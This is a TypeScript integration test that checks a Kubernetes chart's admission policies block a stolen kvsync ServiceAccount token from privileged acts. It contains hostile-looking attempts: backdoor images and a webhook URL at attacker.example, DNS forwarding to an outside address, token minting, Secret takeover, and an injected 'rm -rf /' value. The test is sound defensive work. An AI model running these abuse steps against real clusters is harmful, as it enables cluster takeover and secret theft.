/**
 * A stolen token of kvsync's ServiceAccount is fenced by the apiserver, not only by kvsync's code.
 *
 * The chart (charts/kvsync) is rendered with the repository's helm; its ServiceAccount, RBAC and
 * ValidatingAdmissionPolicies are applied to the real apiserver, and every request below is made
 * WITH A TOKEN OF THAT ServiceAccount. Each act RBAC allows but kvsync never does is refused, and the
 * refusal names the chart's policy; the acts the controller does perform, made through the
 * controller's own code, still succeed.
 */
import { mkdtemp, rm } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import * as k8s from '@kubernetes/client-node';
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { GROUP, VERSION } from '../../src/api/index.ts';
import { installCrds } from '../../src/api/install.ts';
import { designExampleSpec, keyVaultSync } from '../../src/api/testing/fixtures.ts';
import { deriveIngressSync, type DerivedSync } from '../../src/api/tls-origin.ts';
import { SYNC_LABEL } from '../../src/controller/labels.ts';
import { loadOrCreateMacKey, MAC_KEY_SECRET } from '../../src/controller/mac.ts';
import { KubeWorkloadApi, RESTARTED_FOR_ANNOTATION, rolloutValue } from '../../src/controller/rollouts.ts';
import { SecretWriter } from '../../src/controller/secret-writer.ts';
import { DerivedSyncWrites } from '../../src/controller/tls-sources.ts';
import { applyWebhookConfiguration } from '../../src/controller/webhook.ts';
import { ServiceAccountTokenSource } from '../../src/keyvault/credentials.ts';
import { pollUntil } from '../../src/util/poll.ts';
import { publishCaBundle } from '../../src/webhook/certificates.ts';
import { webhookConfiguration } from '../../src/webhook/webhook-configuration.ts';
import { apply, byKind, oneOf, RBAC_KINDS, renderChart, serviceAccountToken, tokenKubeConfig, type Rendered } from '../integration/chart/support.ts';
import { createTestNamespace, deleteTestNamespace, kubeConfig, statusOf } from '../integration/support/kube.ts';

const POLICY_KINDS = ['ValidatingAdmissionPolicy', 'ValidatingAdmissionPolicyBinding'];
const SSA = k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.ServerSideApply);
const MERGE = k8s.setHeaderOptions('Content-Type', k8s.PatchStrategy.MergePatch);

/** The apiserver's text for an admission error (client-node keeps the Status as the body). */
function messageOf(err: unknown): string {
  if (!(err instanceof k8s.ApiException)) return String(err);
  const body = typeof err.body === 'string' ? err.body : JSON.stringify(err.body);
  try {
    const message = (JSON.parse(body) as { message?: unknown }).message;
    return typeof message === 'string' ? message : body;
  } catch {
    return body;
  }
}

function pemOf(text: string): string {
  return `-----BEGIN CERTIFICATE-----\n${Buffer.from(text).toString('base64')}\n-----END CERTIFICATE-----\n`;
}

describe('a stolen kvsync ServiceAccount token, fenced by the chart ValidatingAdmissionPolicies', () => {
  const admin = kubeConfig();
  const suffix = Math.random().toString(36).slice(2, 7);
  const release = `kvsync-f${suffix}`;
  // The chart's webhook configuration under a unique name: the control plane is shared, and the
  // chart's fixed name belongs to other tests. RBAC on that name is granted below, test-only.
  const webhookName = `kvsync-webhook-${suffix}`;
  const nowhere: k8s.V1LabelSelectorRequirement = { key: 'kubernetes.io/metadata.name', operator: 'In', values: [`${webhookName}-nowhere`] };
  let dir = '';
  let opNs = '';
  let appNs = '';
  let rendered: Rendered[] = [];
  let asSa: k8s.KubeConfig;
  const clusterScoped: Rendered[] = [];
  let policy: (name: string) => string = (n) => n;
  // The UID of a real KeyVaultSync: the garbage collector deletes Secrets whose owner does not exist.
  let syncUid = '';

  /** Made as the ServiceAccount: fails with 403/422 naming the chart policy `which`. */
  const refusedBy = async (which: string, what: string, call: () => Promise<unknown>): Promise<string> => {
    const err = await call().then(() => undefined, (e: unknown) => e);
    expect(err, `${what}: should be refused`).toBeInstanceOf(k8s.ApiException);
    expect([403, 422], `${what}: ${messageOf(err)}`).toContain(statusOf(err));
    const message = messageOf(err);
    expect(message, what).toContain(`ValidatingAdmissionPolicy '${policy(which)}'`);
    return message;
  };

  beforeAll(async () => {
    dir = await mkdtemp(join(tmpdir(), 'kvsync-fencing-'));
    await installCrds(admin);
    opNs = await createTestNamespace(admin, 'fence-op');
    appNs = await createTestNamespace(admin, 'fence-app');
    rendered = await renderChart({ release, namespace: opNs, dir });
    policy = (name) => `${release}-${name}`;
    const policies = byKind(rendered, 'ValidatingAdmissionPolicy').map((p) => p.metadata.name).sort();
    expect(policies).toEqual([policy('keyvaultsyncs'), policy('secret-deletes'), policy('secrets'), policy('tokens'), policy('webhook-configuration'), policy('workloads')].sort());

    for (const obj of rendered.filter((o) => [...RBAC_KINDS, ...POLICY_KINDS].includes(o.kind))) {
      await apply(admin, obj, false);
      if (obj.kind.startsWith('Cluster') || POLICY_KINDS.includes(obj.kind)) clusterScoped.push(obj);
    }
    const mwc = structuredClone(oneOf(rendered, 'MutatingWebhookConfiguration')) as unknown as k8s.V1MutatingWebhookConfiguration;
    mwc.metadata = { ...mwc.metadata, name: webhookName };
    for (const w of mwc.webhooks ?? []) w.namespaceSelector?.matchExpressions?.push(nowhere);
    await apply(admin, mwc as unknown as Rendered, false);
    const sa = oneOf(rendered, 'ServiceAccount').metadata.name;
    const grant: Rendered = {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRole',
      metadata: { name: `${release}-test-webhook` },
      rules: [{ apiGroups: ['admissionregistration.k8s.io'], resources: ['mutatingwebhookconfigurations'], resourceNames: [webhookName], verbs: ['get', 'update', 'patch'] }],
    };
    const binding: Rendered = {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name: `${release}-test-webhook` },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: `${release}-test-webhook` },
      subjects: [{ kind: 'ServiceAccount', name: sa, namespace: opNs }],
    };
    for (const obj of [mwc as unknown as Rendered, grant, binding]) {
      await apply(admin, obj, false);
      clusterScoped.push(obj);
    }

    const core = admin.makeApiClient(k8s.CoreV1Api);
    const sync = (await admin.makeApiClient(k8s.CustomObjectsApi).createNamespacedCustomObject({ group: GROUP, version: VERSION, namespace: appNs, plural: 'keyvaultsyncs', body: keyVaultSync(designExampleSpec(), 'shop', appNs) })) as { metadata: { uid: string } };
    syncUid = sync.metadata.uid;
    await core.createNamespacedServiceAccount({ namespace: appNs, body: { metadata: { name: 'tenant' } } });
    await admin.makeApiClient(k8s.AppsV1Api).createNamespacedDeployment({
      namespace: appNs,
      body: { metadata: { name: 'web' }, spec: { replicas: 1, selector: { matchLabels: { app: 'web' } }, template: { metadata: { labels: { app: 'web' }, annotations: { team: 'shop' } }, spec: { containers: [{ name: 'app', image: 'registry.invalid/app:1' }] } } } },
    });
    await admin.makeApiClient(k8s.AppsV1Api).createNamespacedDaemonSet({
      namespace: appNs,
      body: { metadata: { name: 'agent' }, spec: { selector: { matchLabels: { app: 'agent' } }, template: { metadata: { labels: { app: 'agent' } }, spec: { containers: [{ name: 'agent', image: 'registry.invalid/agent:1' }] } } } },
    });
    // A Secret its namespace's owner made by hand, and a legacy token Secret of the namespace.
    await core.createNamespacedSecret({ namespace: appNs, body: { metadata: { name: 'hand-made' }, stringData: { password: 'theirs' } } });
    await core.createNamespacedConfigMap({ namespace: appNs, body: { metadata: { name: 'hand-made-config' }, data: { Corefile: '. { forward . /etc/resolv.conf }' } } });
    await core.createNamespacedSecret({
      namespace: appNs,
      body: { metadata: { name: 'tenant-token', annotations: { 'kubernetes.io/service-account.name': 'tenant' } }, type: 'kubernetes.io/service-account-token' },
    });

    asSa = tokenKubeConfig(inject('kubeServer'), inject('kubeCaPem'), await serviceAccountToken(admin, opNs, sa), `system:serviceaccount:${opNs}:${sa}`);
    // Policies take effect when the apiserver's informers have them: wait on a side-effect-free
    // probe of each (a dry run goes through admission but stores nothing).
    const probes: [string, () => Promise<unknown>][] = [
      ['secrets', () => asSa.makeApiClient(k8s.CoreV1Api).createNamespacedSecret({ namespace: appNs, body: { metadata: { name: 'probe' } }, dryRun: 'All' })],
      ['workloads', () => asSa.makeApiClient(k8s.AppsV1Api).patchNamespacedDeployment({ namespace: appNs, name: 'web', body: { metadata: { labels: { probe: 'x' } } }, dryRun: 'All' }, MERGE)],
      ['webhook-configuration', () => asSa.makeApiClient(k8s.AdmissionregistrationV1Api).patchMutatingWebhookConfiguration({ name: webhookName, body: { metadata: { labels: { probe: 'x' } } }, dryRun: 'All' }, MERGE)],
      ['tokens', () => asSa.makeApiClient(k8s.CoreV1Api).createNamespacedServiceAccountToken({ namespace: appNs, name: 'tenant', body: { spec: { audiences: ['probe'] } } })],
      ['keyvaultsyncs', () => asSa.makeApiClient(k8s.CustomObjectsApi).createNamespacedCustomObject({ group: GROUP, version: VERSION, namespace: appNs, plural: 'keyvaultsyncs', body: keyVaultSync(designExampleSpec(), 'probe', appNs), dryRun: 'All' })],
    ];
    for (const [which, probe] of probes) {
      await pollUntil(async () => ((await probe().then(() => '', messageOf)).includes(`'${policy(which)}'`) ? true : undefined), {
        timeoutMs: 60_000,
        intervalMs: 250,
        description: `ValidatingAdmissionPolicy ${policy(which)} enforced`,
      });
    }
  }, 900_000);

  afterAll(async () => {
    const objects = k8s.KubernetesObjectApi.makeApiClient(admin);
    for (const obj of clusterScoped) await objects.delete(obj).catch(() => undefined);
    if (opNs) await deleteTestNamespace(admin, opNs);
    if (appNs) await deleteTestNamespace(admin, appNs);
    if (dir) await rm(dir, { recursive: true, force: true });
  });

  it('cannot mint a token the apiserver accepts, a long-lived one, or one for another audience', async () => {
    const core = asSa.makeApiClient(k8s.CoreV1Api);
    const token = (spec: k8s.V1TokenRequestSpec, namespace = appNs, name = 'tenant') => () => core.createNamespacedServiceAccountToken({ namespace, name, body: { spec } });
    const audience = await refusedBy('tokens', 'a token for the apiserver audience', token({ audiences: [] }));
    expect(audience).toContain('api://AzureADTokenExchange');
    await refusedBy('tokens', 'a kube-system token for the apiserver audience', token({ audiences: [] }, 'kube-system', 'default'));
    await refusedBy('tokens', 'a token for Entra and the apiserver at once', token({ audiences: ['api://AzureADTokenExchange', 'https://kubernetes.default.svc'] }));
    expect(await refusedBy('tokens', 'a 24 h token', token({ audiences: ['api://AzureADTokenExchange'], expirationSeconds: 86_400 }))).toContain('3600 seconds');
  });

  it('still mints the workload identity token the controller asks for (api://AzureADTokenExchange, 1 h)', async () => {
    const value = await new ServiceAccountTokenSource(asSa.makeApiClient(k8s.CoreV1Api), appNs, 'tenant').get();
    const claims = JSON.parse(Buffer.from(value.split('.')[1] ?? '', 'base64url').toString()) as { aud: string[]; exp: number; iat: number; sub: string };
    expect(claims.aud).toEqual(['api://AzureADTokenExchange']);
    expect(claims.sub).toBe(`system:serviceaccount:${appNs}:tenant`);
    expect(claims.exp - claims.iat).toBeLessThanOrEqual(3600);
  });

  it('cannot write a token Secret, a Secret or ConfigMap kvsync does not own, or take a Secret over', async () => {
    const core = asSa.makeApiClient(k8s.CoreV1Api);
    const ownerRef = { apiVersion: 'kvsync.dev/v1alpha1', kind: 'KeyVaultSync', name: 'shop', uid: syncUid, controller: true };
    const ssa = (name: string, body: k8s.V1Secret) => () =>
      core.patchNamespacedSecret({ namespace: appNs, name, body: { apiVersion: 'v1', kind: 'Secret', ...body, metadata: { name, namespace: appNs, ...body.metadata } }, fieldManager: 'thief', force: true }, SSA);
    const tokenType = await refusedBy('secrets', 'create a service-account token Secret (even with a KeyVaultSync owner)', () =>
      core.createNamespacedSecret({
        namespace: appNs,
        body: { metadata: { name: 'minted', ownerReferences: [ownerRef], annotations: { 'kubernetes.io/service-account.name': 'tenant' } }, type: 'kubernetes.io/service-account-token' },
      }),
    );
    expect(tokenType).toContain('service-account or bootstrap tokens');
    await refusedBy('secrets', 'create a bootstrap token Secret in kube-system', () =>
      core.createNamespacedSecret({ namespace: 'kube-system', body: { metadata: { name: `bootstrap-token-${suffix}a`, ownerReferences: [ownerRef] }, type: 'bootstrap.kubernetes.io/token', stringData: { 'token-id': `${suffix}a`, 'token-secret': '0123456789abcdef' } } }),
    );
    await refusedBy('secrets', 'write into the namespace\'s service-account token Secret', ssa('tenant-token', { data: { extra: Buffer.from('x').toString('base64') } }));
    await refusedBy('secrets', 'create a Secret no KeyVaultSync owns', ssa('unowned', { stringData: { a: 'b' } }));
    const handMade = await refusedBy('secrets', 'overwrite a hand-made Secret', ssa('hand-made', { stringData: { password: 'stolen' } }));
    expect(handMade).toContain('already carry kvsync ownership');
    await refusedBy('secrets', 'adopt a hand-made Secret by adding a KeyVaultSync owner reference', ssa('hand-made', { metadata: { ownerReferences: [ownerRef] } }));
    await refusedBy('secrets', 'grant itself the owner\'s Merge consent', ssa('hand-made', { metadata: { annotations: { 'kvsync.dev/merge-from': 'shop' } } }));
    await refusedBy('secrets', 'adopt a hand-made Secret with a merge patch', () => core.patchNamespacedSecret({ namespace: appNs, name: 'hand-made', body: { data: { password: Buffer.from('stolen').toString('base64') } } }, MERGE));
    const cm = (namespace: string, name: string) => () =>
      core.patchNamespacedConfigMap({ namespace, name, body: { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name, namespace }, data: { Corefile: '. { forward . 203.0.113.7 }' } }, fieldManager: 'thief', force: true }, SSA);
    expect(await refusedBy('secrets', 'overwrite a hand-made ConfigMap (kube-system\'s DNS configuration, say)', cm(appNs, 'hand-made-config'))).toContain('ConfigMaps');
    await refusedBy('secrets', 'create an unowned ConfigMap in kube-system', cm('kube-system', `thief-${suffix}`));
    // RBAC grants delete (pruning); the policy leaves it only Secrets with a kvsync owner reference.
    expect(await refusedBy('secret-deletes', 'delete a hand-made Secret', () => core.deleteNamespacedSecret({ namespace: appNs, name: 'hand-made' }))).toContain('owned by a KeyVaultSync');
    await refusedBy('secret-deletes', 'delete a service-account token Secret', () => core.deleteNamespacedSecret({ namespace: appNs, name: 'tenant-token' }));
    const stored = await admin.makeApiClient(k8s.CoreV1Api).readNamespacedSecret({ namespace: appNs, name: 'hand-made' });
    expect(Buffer.from(stored.data?.password ?? '', 'base64').toString()).toBe('theirs');

    // A Secret kvsync does own may not be handed to another KeyVaultSync.
    await new SecretWriter(asSa).applySecret({ name: 'shop', namespace: appNs, uid: syncUid }, { name: 'shop-db', type: 'Opaque', labels: {}, annotations: {}, creationPolicy: 'Owner', data: { DB_PASSWORD: Buffer.from('v1') } });
    await refusedBy('secrets', 'move a kvsync Secret to another KeyVaultSync', () =>
      core.patchNamespacedSecret({ namespace: appNs, name: 'shop-db', body: { metadata: { ownerReferences: [{ ...ownerRef, name: 'other', uid: '0e9d8c7b-6a5f-4e3d-8c2b-1a0f9e8d7c6b' }] } } }, MERGE),
    );
  });

  it('still writes what the controller writes: KeyVaultSync-owned Secrets and ConfigMaps, and its MAC key', async () => {
    const writer = new SecretWriter(asSa);
    const owner = { name: 'shop', namespace: appNs, uid: syncUid };
    const desired = { name: 'shop-tls', type: 'kubernetes.io/tls', labels: {}, annotations: {}, creationPolicy: 'Owner' as const, data: { 'tls.crt': Buffer.from('crt'), 'tls.key': Buffer.from('key') } };
    expect(await writer.applySecret(owner, desired)).toBe('created');
    expect(await writer.applySecret(owner, { ...desired, data: { 'tls.crt': Buffer.from('crt2'), 'tls.key': Buffer.from('key2') } })).toBe('updated');
    const stored = await admin.makeApiClient(k8s.CoreV1Api).readNamespacedSecret({ namespace: appNs, name: 'shop-tls' });
    expect(stored.metadata?.labels?.[SYNC_LABEL]).toBe('shop');
    expect(await writer.applyConfigMap(owner, { name: 'shop-ca', labels: {}, annotations: {}, creationPolicy: 'Owner', data: { 'ca.crt': 'public' } })).toBe('created');
    expect((await loadOrCreateMacKey(asSa.makeApiClient(k8s.CoreV1Api), opNs)).length).toBe(32);
    // A ClusterKeyVaultSync's Secret in a namespace it selects, and pruning one (an owned Secret).
    const { restartTargets: _namespacedOnly, ...clusterSpec } = designExampleSpec();
    const cluster = (await admin.makeApiClient(k8s.CustomObjectsApi).createClusterCustomObject({
      group: GROUP,
      version: VERSION,
      plural: 'clusterkeyvaultsyncs',
      body: { apiVersion: `${GROUP}/${VERSION}`, kind: 'ClusterKeyVaultSync', metadata: { name: `fence-${suffix}` }, spec: { ...clusterSpec, namespaceSelector: { matchLabels: { [`fence-${suffix}`]: 'none' } } } },
    })) as { metadata: { uid: string } };
    try {
      const fanned = { name: `fence-${suffix}`, namespace: appNs, uid: cluster.metadata.uid, kind: 'ClusterKeyVaultSync' as const };
      expect(await writer.applySecret(fanned, { ...desired, name: 'wildcard-tls' })).toBe('created');
      expect(await writer.prune(fanned, 'Secret', 'wildcard-tls')).toBe('deleted');
      expect(await writer.prune(owner, 'Secret', 'shop-tls')).toBe('deleted');
    } finally {
      await admin.makeApiClient(k8s.CustomObjectsApi).deleteClusterCustomObject({ group: GROUP, version: VERSION, plural: 'clusterkeyvaultsyncs', name: `fence-${suffix}` });
    }
    await admin.makeApiClient(k8s.CoreV1Api).readNamespacedSecret({ namespace: opNs, name: MAC_KEY_SECRET });
  });

  it('cannot change a workload beyond its restart annotation', async () => {
    const apps = asSa.makeApiClient(k8s.AppsV1Api);
    const patch = (body: object, kind: 'Deployment' | 'DaemonSet' = 'Deployment', name = kind === 'Deployment' ? 'web' : 'agent') => () =>
      kind === 'Deployment'
        ? apps.patchNamespacedDeployment({ namespace: appNs, name, body: { apiVersion: 'apps/v1', kind, metadata: { name, namespace: appNs }, ...body }, fieldManager: 'kvsync', force: true }, SSA)
        : apps.patchNamespacedDaemonSet({ namespace: appNs, name, body: { apiVersion: 'apps/v1', kind, metadata: { name, namespace: appNs }, ...body }, fieldManager: 'kvsync', force: true }, SSA);
    const container = (image: string) => ({ spec: { template: { spec: { containers: [{ name: 'app', image }] } } } });
    const image = await refusedBy('workloads', 'swap the image of a Deployment', patch(container('attacker.example/backdoor:1')));
    expect(image).toContain('kvsync.dev/restarted-for');
    await refusedBy('workloads', 'swap the image of a DaemonSet', patch({ spec: { template: { spec: { containers: [{ name: 'agent', image: 'attacker.example/backdoor:1' }] } } } }, 'DaemonSet'));
    await refusedBy('workloads', 'scale a Deployment', patch({ spec: { replicas: 5 } }));
    await refusedBy('workloads', 'add another pod-template annotation', patch({ spec: { template: { metadata: { annotations: { 'sidecar.istio.io/inject': 'false' } } } } }));
    await refusedBy('workloads', 'relabel the pod template', patch({ spec: { template: { metadata: { labels: { app: 'web', extra: 'x' } } } } }));
    await refusedBy('workloads', 'label the Deployment', patch({ metadata: { name: 'web', namespace: appNs, labels: { owned: 'x' } } }));
    await refusedBy('workloads', 'write anything but <keyvaultsync>:<hash> into the restart annotation', patch({ spec: { template: { metadata: { annotations: { [RESTARTED_FOR_ANNOTATION]: 'x; rm -rf /' } } } } }));
    await refusedBy('workloads', 'remove a pod-template annotation', () =>
      apps.patchNamespacedDeployment({ namespace: appNs, name: 'web', body: { spec: { template: { metadata: { annotations: { team: null } } } } } }, MERGE),
    );
    const d = await admin.makeApiClient(k8s.AppsV1Api).readNamespacedDeployment({ namespace: appNs, name: 'web' });
    expect(d.spec?.template.spec?.containers[0]?.image).toBe('registry.invalid/app:1');
    expect(d.spec?.replicas).toBe(1);
  });

  it('still rolls a workload: the restart annotation the controller writes', async () => {
    const value = rolloutValue(Buffer.alloc(32, 7), 'shop', ['shop-db'], new Map([['shop-db', 'hmac-sha256:00']]));
    await new KubeWorkloadApi(asSa).setTemplateAnnotation(appNs, 'Deployment', 'web', RESTARTED_FOR_ANNOTATION, value);
    const d = await admin.makeApiClient(k8s.AppsV1Api).readNamespacedDeployment({ namespace: appNs, name: 'web' });
    expect(d.spec?.template.metadata?.annotations).toEqual({ team: 'shop', [RESTARTED_FOR_ANNOTATION]: value });
  });

  it('cannot redirect, weaken or widen its webhook configuration', async () => {
    const api = asSa.makeApiClient(k8s.AdmissionregistrationV1Api);
    const replaced = (change: (c: k8s.V1MutatingWebhookConfiguration) => void) => async () => {
      const cfg = await api.readMutatingWebhookConfiguration({ name: webhookName });
      change(cfg);
      return api.replaceMutatingWebhookConfiguration({ name: webhookName, body: cfg });
    };
    const redirect = await refusedBy('webhook-configuration', 'send admitted pods to another endpoint', replaced((c) => {
      for (const w of c.webhooks ?? []) w.clientConfig = { url: 'https://attacker.example/mutate', caBundle: w.clientConfig.caBundle };
    }));
    expect(redirect).toContain('CA bundle');
    await refusedBy('webhook-configuration', 'fail open', replaced((c) => {
      for (const w of c.webhooks ?? []) w.failurePolicy = 'Ignore';
    }));
    await refusedBy('webhook-configuration', 'reach every namespace', replaced((c) => {
      for (const w of c.webhooks ?? []) w.namespaceSelector = {};
    }));
    await refusedBy('webhook-configuration', 'mutate more than pod creation', replaced((c) => {
      for (const w of c.webhooks ?? []) w.rules = [{ operations: ['*'], apiGroups: ['*'], apiVersions: ['*'], resources: ['*'] }];
    }));
    await refusedBy('webhook-configuration', 'add a webhook', replaced((c) => {
      const first = c.webhooks?.[0];
      if (first !== undefined) c.webhooks?.push({ ...first, name: 'extra.pods.kvsync.dev' });
    }));
    await refusedBy('webhook-configuration', 'relabel it', replaced((c) => {
      c.metadata = { ...c.metadata, labels: { ...c.metadata?.labels, extra: 'x' } };
    }));
  });

  it('still keeps the CA bundle current, as at start and at renewal', async () => {
    const endpoint = { service: { namespace: opNs, name: `${release}-webhook`, port: 443 } };
    const first = pemOf('first CA');
    await applyWebhookConfiguration(asSa, webhookConfiguration({ name: webhookName, operatorNamespace: opNs, endpoint, caBundlePem: first, extraNamespaceRequirements: [nowhere] }), first);
    const renewed = pemOf('renewed CA');
    await publishCaBundle(asSa, webhookName, renewed);
    const stored = await admin.makeApiClient(k8s.AdmissionregistrationV1Api).readMutatingWebhookConfiguration({ name: webhookName });
    for (const w of stored.webhooks ?? []) {
      expect(w.clientConfig.caBundle).toBe(Buffer.from(renewed).toString('base64'));
      expect(w.failurePolicy).toBe('Fail');
    }
  });

  describe('KeyVaultSyncs derived from an Ingress', () => {
    const annotations = {
      'kvsync.dev/tls-certificate': 'https://gebakv.vault.azure.net/certificates/shop-tls',
      'kvsync.dev/tls-identity': 'workloadIdentity:tenant',
      'kvsync.dev/tls-tenant-id': '00000000-0000-0000-0000-000000000000',
    };
    let derived: DerivedSync;

    beforeAll(async () => {
      const ingress = await admin.makeApiClient(k8s.NetworkingV1Api).createNamespacedIngress({
        namespace: appNs,
        body: { metadata: { name: 'shop', annotations }, spec: { tls: [{ secretName: 'shop-ingress-tls' }], defaultBackend: { service: { name: 'web', port: { number: 80 } } } } },
      });
      const d = deriveIngressSync(ingress, { vaultUrls: {}, allowedVaultHosts: [] });
      if (d.kind !== 'sync') throw new Error(`the Ingress derives no KeyVaultSync: ${d.kind}`);
      derived = d.sync;
    });

    const custom = (): k8s.CustomObjectsApi => asSa.makeApiClient(k8s.CustomObjectsApi);
    const kvs = { group: GROUP, version: VERSION, plural: 'keyvaultsyncs' };

    it('cannot create, change or delete a KeyVaultSync it did not derive, nor derive one that writes more than TLS Secrets', async () => {
      const plain = await refusedBy('keyvaultsyncs', 'create a KeyVaultSync of its own', () => custom().createNamespacedCustomObject({ ...kvs, namespace: appNs, body: keyVaultSync(designExampleSpec(), 'thief', appNs) }));
      expect(plain).toContain('derived from an Ingress or Gateway');
      await refusedBy('keyvaultsyncs', 'label its own KeyVaultSync as derived without an Ingress owner', () =>
        custom().createNamespacedCustomObject({ ...kvs, namespace: appNs, body: { ...derived, metadata: { ...derived.metadata, name: 'thief', ownerReferences: [] } } }),
      );
      const opaque = { ...derived, metadata: { ...derived.metadata, name: 'thief' }, spec: { ...derived.spec, secretObjects: [{ secretName: 'stolen', type: 'Opaque', data: [{ objectName: 'cert-0' }] }] } };
      expect(await refusedBy('keyvaultsyncs', 'derive a KeyVaultSync writing an Opaque Secret', () => custom().createNamespacedCustomObject({ ...kvs, namespace: appNs, body: opaque }))).toContain('kubernetes.io/tls Secrets it owns');
      await refusedBy('keyvaultsyncs', 'derive a KeyVaultSync that rolls workloads', () =>
        custom().createNamespacedCustomObject({ ...kvs, namespace: appNs, body: { ...derived, metadata: { ...derived.metadata, name: 'thief' }, spec: { ...derived.spec, restartTargets: [{ kind: 'Deployment', name: 'web' }] } } }),
      );
      const takeOver = await refusedBy('keyvaultsyncs', "adopt the tenant's own KeyVaultSync as derived", () =>
        custom().patchNamespacedCustomObject({ ...kvs, namespace: appNs, name: 'shop', body: { metadata: { labels: derived.metadata.labels, ownerReferences: derived.metadata.ownerReferences } } }, MERGE),
      );
      expect(takeOver).toContain('only KeyVaultSyncs it derived');
      await refusedBy('keyvaultsyncs', "delete the tenant's own KeyVaultSync", () => custom().deleteNamespacedCustomObject({ ...kvs, namespace: appNs, name: 'shop' }));
    });

    it('still creates, applies and deletes the KeyVaultSync it derives, through the controller code', async () => {
      const writes = new DerivedSyncWrites(asSa);
      expect(await writes.create(derived, derived.metadata.ownerReferences[0]?.uid ?? '')).toBe(true);
      await writes.apply({ ...derived, spec: { ...derived.spec, deletionPolicy: 'Retain' } });
      const stored = (await admin.makeApiClient(k8s.CustomObjectsApi).getNamespacedCustomObject({ ...kvs, namespace: appNs, name: derived.metadata.name })) as { metadata: k8s.V1ObjectMeta; spec: { deletionPolicy?: string } };
      expect(stored.spec.deletionPolicy).toBe('Retain');
      await refusedBy('keyvaultsyncs', 'move a derived KeyVaultSync to another owner', () =>
        custom().patchNamespacedCustomObject({ ...kvs, namespace: appNs, name: derived.metadata.name, body: { metadata: { ownerReferences: [{ ...derived.metadata.ownerReferences[0], name: 'other', uid: '0e9d8c7b-6a5f-4e3d-8c2b-1a0f9e8d7c6b' }] } } }, MERGE),
      );
      expect(await writes.delete(stored)).toBe(true);
    });
  });
});
